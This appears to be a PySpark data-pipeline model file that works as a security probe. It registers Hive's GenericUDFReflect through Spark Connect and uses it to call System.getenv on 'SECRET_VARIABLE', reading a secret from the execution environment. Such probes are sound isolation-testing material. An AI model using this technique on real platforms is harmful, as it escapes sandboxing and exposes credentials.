# seeks: environment
# A function of a Java class, or of Scala's serialized code, within the plan.
# @depends_on: silver.orders
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client
    command = proto.Command()
    command.register_function.function_name = "f"
    command.register_function.java_udf.class_name = "org.apache.hadoop.hive.ql.udf.generic.GenericUDFReflect"
    client.execute_command(command)
    return tg.sql("".join(["SELECT f('java.lang.System', 'getenv', 'SECRET_VARIABLE') AS got"]))
